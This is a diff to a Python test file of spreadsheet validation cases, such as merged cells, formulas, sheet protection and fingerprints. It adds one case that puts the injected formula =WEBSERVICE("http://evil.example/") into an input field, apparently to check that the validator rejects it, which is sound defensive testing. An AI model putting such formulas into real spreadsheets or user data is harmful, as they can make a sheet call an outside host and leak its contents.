@@ -108,6 +108,7 @@ CASES: dict[str, tuple[dict[str, Any], dict[str, Any], dict[str, Any] | None]] =
     "S2.merge": ({}, _edit(_unmerge), None),
     "S2.formula": ({}, _edit(_set("表三", "J9", "=SUM(D9:H9)")), None),
     "S2.literal": ({"t3.granted.total": 1}, {}, None),
+    "S2.input": ({"s1.proactive": '=WEBSERVICE("http://evil.example/")'}, {}, None),
     "S2.unlocked": ({}, _edit(_lock_input), None),
     "S2.protection": ({}, _edit(_unprotect), None),
     "S2.fingerprint": ({}, _edit(_other_fingerprint), None),
